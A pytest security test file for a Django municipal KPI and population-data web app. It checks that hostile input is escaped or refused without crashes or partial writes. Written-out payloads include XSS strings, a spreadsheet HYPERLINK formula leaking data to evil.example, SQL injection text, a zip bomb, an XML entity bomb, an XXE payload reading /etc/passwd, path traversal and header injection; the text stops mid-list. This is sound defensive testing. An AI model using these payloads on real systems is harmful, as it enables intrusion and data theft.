"""Hostile input through the real endpoints: scripts, HTML, formulas, broken and oversized files,
odd encodings, special numbers, very long strings, SQL-like text, path tricks and odd parameters.

Every case checks: no 500 (a crash is reported as the outcome '500:<exception>'), nothing stored
half-way (row counts before and after where the input is refused), text escaped on every HTML page
that shows it, and exported text neutralised for spreadsheets. Cases are small functions registered
with @case(...) and run by one parametrized test at the end of the file, so a failure names the
case (`pytest tests/security -k <case name>`)."""

import csv
import io
import random
import re
import zipfile
from decimal import Decimal
from functools import cache

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from openpyxl import Workbook, load_workbook

from council.models import Opinion, Response
from kpis.excel import layout
from kpis.models import Actual, Department, Indicator, Measure, WorkflowEvent
from population.importers import HEADERS as POPULATION_HEADERS
from population.importers import template_workbook as population_template
from population.models import PopulationFigure
from projects.models import Project, ProjectListing
from revisions.models import Revision
from tests.security import conftest
from tests.security.conftest import DRAFT_VALUE, LOCKED_YEAR, OPEN_YEAR, login

pytestmark = pytest.mark.django_db

CODE = "nemuro-2"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
SQL = ["'; DROP TABLE kpis_actual; --", "1 OR 1=1"]
LONG = "長" * 10_000
# Text that must never reach an HTML page unescaped, whatever the payload.
RAW_MARKERS = ["<script>alert(", "<img src=x", 'href="javascript:', "<svg onload"]
ASCII_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TRIGGERS = ASCII_TRIGGERS + ("＝", "＋", "－", "＠")

CASES = {}


def case(name):
    def register(func):
        assert name not in CASES, name
        CASES[name] = func
        return func

    return register


# --- helpers ----------------------------------------------------------------------------------


def call(client, method, url, data=None, **extra):
    """A request whose writes are kept (the test's own transaction is rolled back at its end)."""
    return conftest.call(client, method, url, data, rollback=False, **extra)


def ok(status, *allowed):
    """A request's outcome: never a crash, and one of `allowed` when given."""
    assert not status.startswith("500"), status
    if allowed:
        assert status in allowed, status


def html_of(response) -> str:
    assert response is not None
    assert response["Content-Type"].startswith("text/html"), response["Content-Type"]
    body = response.content.decode()
    for marker in RAW_MARKERS:
        assert marker not in body, f"unescaped {marker!r}"
    return body


def get_page(client, url, user=None):
    if user is not None:
        login(client, user)
    status, response = call(client, "GET", url)
    ok(status, "200")
    return html_of(response)


def counts():
    return (
        Actual.objects.count(),
        Actual.history.count(),
        WorkflowEvent.objects.count(),
        Opinion.objects.count(),
        Response.objects.count(),
        PopulationFigure.objects.count(),
        Department.objects.count(),
        Revision.objects.count(),
    )


def ind(code):
    return Indicator.objects.get(basic_goal__strategy__code=CODE, code=code)


def entry_url(year=OPEN_YEAR, department=None):
    return reverse("entry", args=[CODE, year, department.pk])


def post_entry(client, world, *, code="1-ア-1-3", submit=False, version=0, **fields):
    target = ind(code)
    data = {f"i{target.pk}-version": str(version)}
    data.update({f"i{target.pk}-{k}": v for k, v in fields.items()})
    if submit:
        data["action"] = "submit"
    return call(client, "POST", entry_url(department=world["fisheries"]), data)


def page_urls(world):
    i = world["indicator"]
    return {
        "strategy": reverse("strategy", args=[CODE]),
        "overview": reverse("dashboard_overview", args=[CODE]) + f"?year={OPEN_YEAR}",
        "goal": reverse("dashboard_goal", args=[CODE, 1]) + f"?year={OPEN_YEAR}",
        "policy": reverse("dashboard_policy", args=[CODE, i.measure.policy_id]),
        "measure": reverse("dashboard_measure", args=[CODE, i.measure_id]),
        "indicator": reverse("dashboard_indicator", args=[CODE, i.pk]) + f"?year={OPEN_YEAR}",
        "entry_index": reverse("entry_index", args=[CODE]),
        "entry": entry_url(department=world["fisheries"]),
        "status": reverse("status_board", args=[CODE, OPEN_YEAR]),
        "assignments": reverse("assignments", args=[CODE]),
        "review": reverse("review_pack", args=[CODE, OPEN_YEAR]),
        "projects": reverse("projects_list", args=[CODE]),
        "respond": reverse("opinion_respond", args=[CODE, world["opinion"].pk]),
    }


def assert_escaped_on(client, world, payload, pages, user="bob"):
    """`payload` is shown escaped (and never raw) on every page named."""
    urls = page_urls(world)
    for page in pages:
        body = get_page(client, urls[page], world["users"][user])
        if escape(payload) != payload:  # 'javascript:…' has nothing to escape: only never a link
            assert payload not in body, f"raw payload on {page}"
        assert escape(payload) in body, f"payload not shown on {page}"


# --- 1. scripts in stored text: entry notes, sources, opinions, responses ------------------------

PAYLOADS = {"script": SCRIPT, "img": IMG, "jsurl": JS_URL}


def _store_note(request, client, payload):
    w = request.getfixturevalue("world")
    login(client, w["users"]["alice"])
    before = Actual.objects.count()
    status, _ = post_entry(client, w, code="1-ア-1-1", version=1, value="25,500", note=payload)
    ok(status, "302")
    assert Actual.objects.count() == before
    assert ind("1-ア-1-1").actuals.get(fiscal_year=OPEN_YEAR).note == payload
    assert_escaped_on(client, w, payload, ["entry"], user="alice")
    assert_escaped_on(client, w, payload, ["indicator", "review"], user="bob")


def _store_source(request, client, payload):
    w = request.getfixturevalue("world")
    login(client, w["users"]["alice"])
    status, _ = post_entry(
        client, w, code="1-ア-1-1", version=1, value="25,500", data_source=payload
    )
    ok(status, "302")
    assert ind("1-ア-1-1").actuals.get(fiscal_year=OPEN_YEAR).data_source == payload
    assert_escaped_on(client, w, payload, ["entry"], user="alice")
    assert_escaped_on(client, w, payload, ["indicator"], user="bob")


def _store_opinion(request, client, payload):
    w = request.getfixturevalue("world")
    login(client, w["users"]["charlie"])
    url = reverse("opinion_create", args=[CODE, "indicator", w["indicator"].pk])
    status, _ = call(client, "POST", url, {"fiscal_year": OPEN_YEAR, "body": payload})
    ok(status, "302")
    assert Opinion.objects.filter(body=payload).count() == 1
    assert_escaped_on(client, w, payload, ["review"], user="charlie")
    assert_escaped_on(client, w, payload, ["indicator"], user="bob")


def _store_response(request, client, payload):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    url = reverse("opinion_respond", args=[CODE, w["opinion"].pk])
    status, _ = call(client, "POST", url, {"body": payload})
    ok(status, "302")
    assert Response.objects.get(opinion=w["opinion"]).body == payload
    assert_escaped_on(client, w, payload, ["respond", "review"], user="bob")


for _label, _payload in PAYLOADS.items():
    for _sink, _func in {
        "entry-note": _store_note,
        "entry-source": _store_source,
        "opinion": _store_opinion,
        "response": _store_response,
    }.items():
        case(f"xss-{_sink}-{_label}")(
            lambda request, client, f=_func, p=_payload: f(request, client, p)
        )


@case("xss-not-measurable-reason")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["alice"])
    status, _ = post_entry(
        client, w, submit=True, not_measurable="on", not_measurable_reason=SCRIPT
    )
    ok(status, "302")
    assert_escaped_on(client, w, SCRIPT, ["entry"], user="alice")
    assert_escaped_on(client, w, SCRIPT, ["status"], user="bob")


@case("xss-return-reason")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    url = reverse("status_return", args=[CODE, OPEN_YEAR, w["actual"].pk])
    status, _ = call(client, "POST", url, {"reason": IMG})
    ok(status, "302")
    assert WorkflowEvent.objects.filter(reason=IMG).exists()
    # Shown in the status board's log and the indicator page's history.
    assert_escaped_on(client, w, IMG, ["status", "indicator"], user="bob")


# --- 2. HTML in names (set by an administrator, or straight in the database) -------------------

NAME = '"><img src=x onerror=alert(1)>'


def _names_case(setter, pages_by_user):
    def run(request, client):
        w = request.getfixturevalue("world")
        payload = setter(w)
        for user, pages in pages_by_user.items():
            assert_escaped_on(client, w, payload, pages, user=user)

    return run


def _set_indicator_name(w):
    Indicator.objects.filter(pk=w["indicator"].pk).update(name=NAME)
    return NAME


def _set_department_name(w):
    Department.objects.filter(pk=w["fisheries"].pk).update(name=NAME)
    return NAME


def _set_project_name(w):
    listing = ProjectListing.objects.filter(measure_id=w["indicator"].measure_id).first()
    Project.objects.filter(pk=listing.project_id).update(name=NAME)
    return NAME


def _set_measure_title(w):
    Measure.objects.filter(pk=w["indicator"].measure_id).update(title=NAME)
    return NAME


def _set_policy_title(w):
    from kpis.models import Policy

    Policy.objects.filter(pk=w["indicator"].measure.policy_id).update(title=NAME)
    return NAME


def _set_goal_title(w):
    from kpis.models import BasicGoal

    BasicGoal.objects.filter(strategy__code=CODE, number=1).update(title=NAME)
    return NAME


def _set_unit(w):
    payload = "<svg onload=a()>"  # Indicator.unit is 20 characters at most
    Indicator.objects.filter(pk=w["indicator"].pk).update(unit=payload)
    return payload


def _set_user_names(w):
    for name in ("alice", "charlie"):
        user = w["users"][name]
        user.first_name = NAME
        user.save()
    return NAME


for _name, _setter, _pages in [
    (
        "indicator",
        _set_indicator_name,
        {"bob": ["strategy", "overview", "indicator", "status", "review", "assignments"]},
    ),
    ("department", _set_department_name, {"bob": ["entry", "status", "assignments", "overview"]}),
    ("project", _set_project_name, {"charlie": ["projects", "measure", "strategy"]}),
    ("measure", _set_measure_title, {"charlie": ["strategy", "measure", "overview"]}),
    ("policy", _set_policy_title, {"charlie": ["policy", "goal", "overview"]}),
    ("goal", _set_goal_title, {"charlie": ["strategy", "goal", "review"]}),
    ("unit", _set_unit, {"alice": ["entry"], "bob": ["indicator", "status"]}),
    ("user", _set_user_names, {"bob": ["status", "review"]}),
]:
    case(f"html-name-{_name}")(_names_case(_setter, _pages))


@case("html-name-department-via-admin")
def _(request, client):
    """The administrator renames a department in the Django admin; every page escapes it."""
    w = request.getfixturevalue("world")
    login(client, w["users"]["dave"])
    dept = w["fisheries"]
    data = {"name": NAME, "members": [w["users"]["alice"].pk]}
    ok(call(client, "POST", f"/admin/kpis/department/{dept.pk}/change/", data)[0], "302")
    dept.refresh_from_db()
    assert dept.name == NAME
    assert_escaped_on(client, w, NAME, ["entry_index"], user="alice")
    assert_escaped_on(client, w, NAME, ["status", "assignments"], user="bob")


# --- 3. exports: text that a spreadsheet would run as a formula --------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "fullwidth": "＝1+1",
    "tab": "\t=1+1",
}


def _xlsx_cells(content):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _check_xlsx(content, payload):
    cells = _xlsx_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(ASCII_TRIGGERS) and t != "-"], texts
    assert any(payload in t for t in texts), "payload not exported"


def _check_csv(content, payload):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    fields = [f for row in rows for f in row]
    risky = [f for f in fields if f.startswith(TRIGGERS) and not _is_number(f)]
    assert not risky, risky
    assert any(payload in f for f in fields), "payload not exported"


def _is_number(text):
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _formula_case(payload):
    def run(request, client):
        w = request.getfixturevalue("world")
        Indicator.objects.filter(pk=w["indicator"].pk).update(name=payload)
        Department.objects.filter(pk=w["fisheries"].pk).update(name=payload + "課")
        Actual.objects.filter(pk=w["actual"].pk).update(note=payload, data_source=payload)
        login(client, w["users"]["bob"])
        exports = {
            "csv": reverse("excel_export_csv", args=[CODE]),
            "xlsx": reverse("excel_export_xlsx", args=[CODE]),
            "dashboard": reverse("dashboard_overview", args=[CODE])
            + f"?year={OPEN_YEAR}&format=xlsx",
            "review": reverse("review_pack_xlsx", args=[CODE, OPEN_YEAR]),
        }
        for kind, url in exports.items():
            status, response = call(client, "GET", url)
            ok(status, "200")
            assert "attachment" in response["Content-Disposition"], kind
            assert response["X-Content-Type-Options"] == "nosniff", kind
            if kind == "csv":
                _check_csv(response.content, payload)
            else:
                _check_xlsx(response.content, payload)

    return run


for _label, _payload in FORMULAS.items():
    case(f"export-formula-{_label}")(_formula_case(_payload))


# --- 4. uploaded workbooks: formulas and odd cells in the entry template -----------------------


def _template(client, w):
    login(client, w["users"]["alice"])
    status, response = call(
        client, "GET", reverse("excel_template", args=[CODE, OPEN_YEAR, w["fisheries"].pk])
    )
    ok(status, "200")
    return load_workbook(io.BytesIO(response.content))


def _fill(wb, code, **cells):
    ws = wb[layout.DATA_SHEET]
    columns = {c.value: c.column for c in ws[layout.HEADER_ROW] if c.value}
    key = layout.indicator_key(CODE, code)
    row = next(
        r for r in range(layout.FIRST_DATA_ROW, ws.max_row + 1) if ws.cell(r, 1).value == key
    )
    for header, value in cells.items():
        ws.cell(row, columns[header]).value = value
    return wb


def _bytes(wb):
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload_entry(client, w, content, name="入力済み.xlsx", content_type=XLSX):
    url = reverse("excel_import", args=[CODE, OPEN_YEAR, w["fisheries"].pk])
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    return call(client, "POST", url, {"preview": "1", "file": upload})


MARKER = 7_654_321  # a number cell whose XML text is replaced by what Excel never writes


def _patched(content: bytes, text: str) -> bytes:
    """The workbook with the number cell MARKER's <v> replaced by `text` (NaN, 1E309, …)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(f"<v>{MARKER}</v>".encode(), f"<v>{text}</v>".encode())
            dst.writestr(item, data)
    return out.getvalue()


def _refused_import(request, client, cells, message):
    w = request.getfixturevalue("world")
    raw = cells.pop("raw", None)
    wb = _fill(_template(client, w), "1-ア-1-3", **cells)
    content = _bytes(wb) if raw is None else _patched(_bytes(wb), raw)
    before = counts()
    status, response = _upload_entry(client, w, content)
    ok(status, "200")
    body = html_of(response)
    assert any(m in body for m in message.split("|")), message
    assert 'name="token"' not in body  # nothing to commit
    assert counts() == before


V, REASON, DATA_YEAR, SOURCE, NOTE, CONFIRM = layout.INPUT_HEADERS
for _label, _cells, _message in [  # _message: one of "a|b" is shown
    ("formula-hyperlink-value", {V: '=HYPERLINK("http://evil.example","x")'}, "数式は使えません"),
    ("formula-sum-note", {V: 3, NOTE: "=1+1"}, "数式は使えません"),
    ("formula-data-year", {V: 3, DATA_YEAR: "=YEAR(TODAY())"}, "数式は使えません"),
    ("at-sum-value", {V: "@SUM(A1)"}, "数値として読み取れません"),
    ("plus-value", {V: "+1+1"}, "数値として読み取れません"),
    ("nan-text", {V: "NaN"}, "数値として読み取れません"),
    ("infinity-text", {V: "Infinity"}, "数値として読み取れません"),
    ("nan-number-cell", {V: MARKER, "raw": "NaN"}, "読み込めませんでした|読み取れません"),
    ("overflow-number-cell", {V: MARKER, "raw": "1E309"}, "読み取れません"),
    ("huge-float-cell", {V: 1e308}, "長すぎます"),
    ("huge-int-cell", {V: 10**15}, "12桁以内"),
    ("long-note-cell", {V: 3, NOTE: LONG}, "4000文字以内"),
    ("bool-cell", {V: True}, "TRUE/FALSE"),
]:
    case(f"import-{_label}")(
        lambda request, client, c=_cells, m=_message: _refused_import(request, client, dict(c), m)
    )


@case("import-at-sum-note-is-text-and-exported-neutralised")
def _(request, client):
    """'@SUM(A1)' typed as text in a note is just text: imported, then neutralised on export."""
    w = request.getfixturevalue("world")
    wb = _fill(_template(client, w), "1-ア-1-3", **{V: 3, NOTE: "@SUM(A1)"})
    status, response = _upload_entry(client, w, _bytes(wb))
    ok(status, "200")
    token = response.context["token"]
    url = reverse("excel_import", args=[CODE, OPEN_YEAR, w["fisheries"].pk])
    ok(call(client, "POST", url, {"commit": "1", "token": token})[0], "302")
    assert ind("1-ア-1-3").actuals.get(fiscal_year=OPEN_YEAR).note == "@SUM(A1)"
    login(client, w["users"]["bob"])
    status, response = call(client, "GET", reverse("excel_export_csv", args=[CODE]))
    _check_csv(response.content, "@SUM(A1)")


@case("import-long-file-name-commits")
def _(request, client):
    """The file name goes into the audit trail's reason (varchar(100)): a long one must not crash."""
    w = request.getfixturevalue("world")
    wb = _fill(_template(client, w), "1-ア-1-3", **{V: 3})
    name = "根室市" * 60 + ".xlsx"
    status, response = _upload_entry(client, w, _bytes(wb), name=name)
    ok(status, "200")
    url = reverse("excel_import", args=[CODE, OPEN_YEAR, w["fisheries"].pk])
    status, _ = call(client, "POST", url, {"commit": "1", "token": response.context["token"]})
    ok(status, "302")
    assert ind("1-ア-1-3").actuals.get(fiscal_year=OPEN_YEAR).value == 3


# --- 5. broken, disguised and oversized files --------------------------------------------------


@cache
def zip_bomb() -> bytes:
    """A small zip (~200 KB) whose sheet inflates to 200 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(200):
                member.write(chunk)
    return out.getvalue()


def _with_macro(content: bytes) -> bytes:
    """A .xlsm renamed .xlsx: the same workbook with a vbaProject.bin."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512)
    return out.getvalue()


def _blank_workbook() -> bytes:
    return _bytes(Workbook())


XML_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + ']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="&lol9;" sheetId="1"/></sheets></workbook>'
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="&xxe;" sheetId="1"/></sheets></workbook>'
)


def _with_workbook_xml(text: str) -> bytes:
    """A real workbook whose xl/workbook.xml is replaced (entity expansion, external entity)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_blank_workbook())) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item, text.encode() if item.filename == "xl/workbook.xml" else data)
    return out.getvalue()


BAD_FILES = {
    "random-bytes": lambda: (random.Random(0).randbytes(4096), "入力.xlsx", XLSX),
    "truncated-zip": lambda: (_blank_workbook()[:1500], "入力.xlsx", XLSX),
    "zip-bomb": lambda: (zip_bomb(), "入力.xlsx", XLSX),
    "xlsm-renamed": lambda: (_with_macro(_blank_workbook()), "入力.xlsx", XLSX),
    "csv-renamed": lambda: ("年,データの出所\n2020,国勢調査\n".encode(), "入力.xlsx", XLSX),
    "empty": lambda: (b"", "入力.xlsx", XLSX),
    "too-big": lambda: (b"PK\x03\x04" + b"\0" * (3 * 1024 * 1024), "入力.xlsx", XLSX),
    "xlsm-extension": lambda: (_blank_workbook(), "入力.xlsm", XLSX),
    "html-as-xlsx": lambda: (b"<html><script>alert(1)</script></html>", "入力.xlsx", "text/html"),
    "traversal-name": lambda: (random.Random(1).randbytes(64), "../../etc/passwd.xlsx", XLSX),
    "xml-entity-bomb": lambda: (_with_workbook_xml(XML_BOMB), "入力.xlsx", XLSX),
    "xml-external-entity": lambda: (_with_workbook_xml(XXE), "入力.xlsx", XLSX),
}


def _bad_entry_upload(kind):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"]["alice"])
        content, name, content_type = BAD_FILES[kind]()
        before = counts()
        status, response = _upload_entry(client, w, content, name, content_type)
        ok(status, "200")
        body = html_of(response)
        assert 'name="token"' not in body
        assert "root:" not in body  # /etc/passwd never read (external entities)
        assert counts() == before
        assert any(
            m in body for m in ("ありません", "読み込め", "受け付けません", "大きすぎ", "空です")
        ), body[-2000:]

    return run


def _bad_population_upload(kind):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"]["bob"])
        content, name, _ = BAD_FILES[kind]()
        before = counts()
        upload = SimpleUploadedFile(name, content)
        status, response = call(
            client, "POST", reverse("population_upload", args=[CODE]), {"file": upload}
        )
        ok(status, "200")
        body = html_of(response)
        assert 'name="token"' not in body
        assert "root:" not in body
        assert counts() == before

    return run


for _kind in BAD_FILES:
    case(f"upload-entry-{_kind}")(_bad_entry_upload(_kind))
for _kind in ["random-bytes", "truncated-zip", "zip-bomb", "xlsm-renamed", "csv-renamed"]:
    case(f"upload-population-{_kind}")(_bad_population_upload(_kind))
for _kind in [
    "empty",
    "too-big",
    "xlsm-extension",
    "traversal-name",
    "xml-entity-bomb",
    "xml-external-entity",
]:
    case(f"upload-population-{_kind}")(_bad_population_upload(_kind))


@case("header-injection-in-download-file-name")
def _(request, client):
    """The template's file name carries the department name: CR/LF and quotes stay inside."""
    w = request.getfixturevalue("world")
    Department.objects.filter(pk=w["fisheries"].pk).update(name='水産\r\nSet-Cookie: x=1";a=".exe')
    login(client, w["users"]["alice"])
    url = reverse("excel_template", args=[CODE, OPEN_YEAR, w["fisheries"].pk])
    status, response = call(client, "GET", url)
    ok(status, "200")
    disposition = response["Content-Disposition"]
    assert "\n" not in disposition and "\r" not in disposition and '";a="' not in disposition
    assert not response.cookies.get("x")


@case("upload-entry-html-file-name-is-escaped")
def _(request, client):
    w = request.getfixturevalue("world")
    wb = _fill(_template(client, w), "1-ア-1-3", **{V: 3})
    status, response = _upload_entry(client, w, _bytes(wb), name=f"{NAME}.xlsx")
    ok(status, "200")
    body = html_of(response)
    assert escape(NAME) in body and NAME not in body


# --- 6. population CSV encodings ----------------------------------------------------------------

POP_ROW = ["2020", "国勢調査", "24512", "2301", "13010", "9001", "1802", "1.42"]


def _population_csv(encoding, rows=(POP_ROW,), raw=None):
    if raw is None:
        lines = [",".join(POPULATION_HEADERS)] + [",".join(r) for r in rows]
        raw = ("\r\n".join(lines) + "\r\n").encode(encoding)
    return SimpleUploadedFile("人口.csv", raw, content_type="text/csv")


def _population_upload_case(make, accepted, message=None):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"]["bob"])
        before = counts()
        status, response = call(
            client, "POST", reverse("population_upload", args=[CODE]), {"file": make()}
        )
        ok(status, "200")
        body = html_of(response)
        assert ('name="token"' in body) == accepted, body[-1500:]
        if message:
            assert message in body
        assert counts() == before  # a preview writes nothing

    return run


for _label, _make, _accepted, _message in [
    ("utf8-bom", lambda: _population_csv("utf-8-sig"), True, None),
    ("shift-jis", lambda: _population_csv("cp932"), True, None),
    ("utf16", lambda: _population_csv("utf-16"), False, "文字コード"),
    (
        "invalid-bytes",
        lambda: _population_csv(
            None, raw=",".join(POPULATION_HEADERS).encode() + b"\r\n\x80\xfd\xfe"
        ),
        False,
        "文字コード",
    ),
    (
        "formula",
        lambda: _population_csv("utf-8", [POP_ROW[:2] + ["=1+1"] + POP_ROW[3:]]),
        False,
        "数式",
    ),
    (
        "at-sum",
        lambda: _population_csv("utf-8", [POP_ROW[:2] + ["@SUM(A1)"] + POP_ROW[3:]]),
        False,
        None,
    ),
    ("sql", lambda: _population_csv("utf-8", [POP_ROW[:1] + [SQL[0]] + POP_ROW[2:]]), False, None),
]:
    case(f"population-csv-{_label}")(_population_upload_case(_make, _accepted, _message))


@case("population-xlsx-formula")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    wb = load_workbook(io.BytesIO(population_template()))
    for column, value in enumerate(POP_ROW, start=1):
        wb.worksheets[0].cell(row=2, column=column, value=value)
    wb.worksheets[0].cell(row=2, column=3, value="=SUM(D2:F2)")
    before = counts()
    upload = SimpleUploadedFile("人口.xlsx", _bytes(wb))
    status, response = call(
        client, "POST", reverse("population_upload", args=[CODE]), {"file": upload}
    )
    ok(status, "200")
    assert "数式" in html_of(response)
    assert counts() == before


# --- 7. special numbers ------------------------------------------------------------------------

BAD_NUMBERS = ["NaN", "Infinity", "-Infinity", "1e309", "1e5", "0x10", "1000000000000000"]


def _entry_number_case(text):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"]["alice"])
        before = counts()
        status, response = post_entry(client, w, value=text)
        ok(status, "200")
        assert "何も保存していません" in html_of(response)
        assert counts() == before

    return run


for _text in BAD_NUMBERS:
    case(f"number-entry-{_text}")(_entry_number_case(_text))


@case("number-entry-minus-zero-is-zero")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["alice"])
    ok(post_entry(client, w, value="-0")[0], "302")
    value = ind("1-ア-1-3").actuals.get(fiscal_year=OPEN_YEAR).value
    assert value == 0 and not value.is_signed()


def _population_number_case(text):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"]["bob"])
        before = counts()
        data = {"year": "2020", "data_source": "国勢調査", "total": text}
        status, response = call(client, "POST", reverse("population_entry", args=[CODE]), data)
        ok(status, "200")
        html_of(response)
        assert counts() == before

    return run


for _text in ["NaN", "Infinity", "1e309", "1e5", "99999999999"]:
    case(f"number-population-{_text}")(_population_number_case(_text))


def _api_year_case(text):
    def run(request, client):
        request.getfixturevalue("world")
        url = reverse("api-v1:list_indicators", args=[CODE])
        ok(call(client, "GET", url, {"fiscal_year": text})[0], "422")

    return run


for _text in ["NaN", "Infinity", "1e309", "-0", "1e5", "99999", "²"]:
    case(f"number-api-fiscal-year-{_text}")(_api_year_case(_text))


# --- 8. very long strings ----------------------------------------------------------------------


def _refused_post(user, url_of, data_of, expect_status="200"):
    def run(request, client):
        w = request.getfixturevalue("world")
        login(client, w["users"][user])
        before = counts()
        status, response = call(client, "POST", url_of(w), data_of(w))
        ok(status, expect_status)
        if response is not None and response["Content-Type"].startswith("text/html"):
            html_of(response)
        assert counts() == before

    return run


def _entry_fields(**fields):
    def data(w):
        target = ind("1-ア-1-3")
        out = {f"i{target.pk}-version": "0"}
        out.update({f"i{target.pk}-{k}": v for k, v in fields.items()})
        return out

    return data


def _entry(w):
    return entry_url(department=w["fisheries"])


def _opinion_url(w):
    return reverse("opinion_create", args=[CODE, "indicator", w["indicator"].pk])


def _respond_url(w):
    return reverse("opinion_respond", args=[CODE, w["opinion"].pk])


for _label, _user, _url, _data in [
    ("entry-note", "alice", _entry, _entry_fields(value="3", note=LONG)),
    ("entry-source", "alice", _entry, _entry_fields(value="3", data_source=LONG)),
    (
        "entry-reason",
        "alice",
        _entry,
        _entry_fields(not_measurable="on", not_measurable_reason=LONG),
    ),
    ("entry-value", "alice", _entry, _entry_fields(value="1" * 10_000)),
    ("opinion", "charlie", _opinion_url, lambda w: {"fiscal_year": OPEN_YEAR, "body": LONG}),
    ("response", "bob", _respond_url, lambda w: {"body": LONG}),
    (
        "population-source",
        "bob",
        lambda w: reverse("population_entry", args=[CODE]),
        lambda w: {"year": "2020", "data_source": LONG, "total": "24512"},
    ),
    (
        "revision-title",
        "dave",
        lambda w: reverse("revision_create", args=[CODE]),
        lambda w: {"title": LONG, "reason": LONG, "decided_by": "council"},
    ),
    (
        "admin-department-name",
        "dave",
        lambda w: "/admin/kpis/department/add/",
        lambda w: {"name": LONG},
    ),
]:
    case(f"long-{_label}")(_refused_post(_user, _url, _data))


@case("long-return-reason")
def _(request, client):
    """The reason is kept whole in the workflow log; the audit trail keeps its first 100 chars."""
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    url = reverse("status_return", args=[CODE, OPEN_YEAR, w["actual"].pk])
    ok(call(client, "POST", url, {"reason": LONG})[0], "302")
    w["actual"].refresh_from_db()
    assert w["actual"].status == Actual.Status.DRAFT
    assert WorkflowEvent.objects.get(action="return").reason == LONG
    assert len(w["actual"].history.first().history_change_reason) <= 100


@case("long-reopen-reason")
def _(request, client):
    w = request.getfixturevalue("world")
    login(client, w["users"]["bob"])
    url = reverse("status_reopen", args=[CODE, LOCKED_YEAR])
    ok(call(client, "POST", url, {"reason": LONG})[0], "302")
    assert WorkflowEvent.objects.get(action="reopen").reason == LONG


@case("long-login-username")
def _(request, client):
    request.getfixturevalue("world")
    status, response = call(client, "POST", "/login/", {"username": LONG, "password": LONG})
    ok(status, "200")
    assert "_auth_user_id" not in client.session


for _label, _url, _params in [
    ("projects-q", lambda: reverse("projects_list", args=[CODE]), {"q": LONG}),
    (
        "dashboard-filters",
        lambda: reverse("dashboard_overview", args=[CODE]),
        {"department": LONG, "goal": LONG, "sort": LONG},
    ),
]:
    case(f"long-query-{_label}")(
        lambda request, client, u=_url, p=_params: _query_case(request, client, u(), p, "200")
    )


# --- 9. SQL-like strings ---------------------------------------------------------------------


def _query_case(request, client, url, params, *allowed, user="bob"):
    w = request.getfixturevalue("world")
    login(client, w["users"][user])
    before = counts()
    status, response = call(client, "GET", url, params)
    ok(status, *allowed)
    if response is not None and response["Content-Type"].startswith("text/html"):
        html_of(response)
    assert counts() == before


def _sql_case(url_of, param, allowed, user="bob"):
    def run(request, client):
        for text in SQL:
            _query_case(request, client, url_of(), {param: text}, *allowed, user=user)
        assert Actual.objects.exists()

    return run


for _label, _url, _param, _allowed in [
    ("projects-q", lambda: reverse("projects_list", args=[CODE]), "q", ("200",)),
    ("projects-goal", lambda: reverse("projects_list", args=[CODE]), "goal", ("200",)),
    ("projects-measure", lambda: reverse("projects_list", args=[CODE]), "measure", ("200",)),
    (
        "overview-department",
        lambda: reverse("dashboard_overview", args=[CODE]),
        "department",
        ("200",),
    ),
    ("overview-grade", lambda: reverse("dashboard_overview", args=[CODE]), "grade", ("200",)),
    ("overview-sort", lambda: reverse("dashboard_overview", args=[CODE]), "sort", ("200",)),
    ("overview-year", lambda: reverse("dashboard_overview", args=[CODE]), "year", ("200",)),
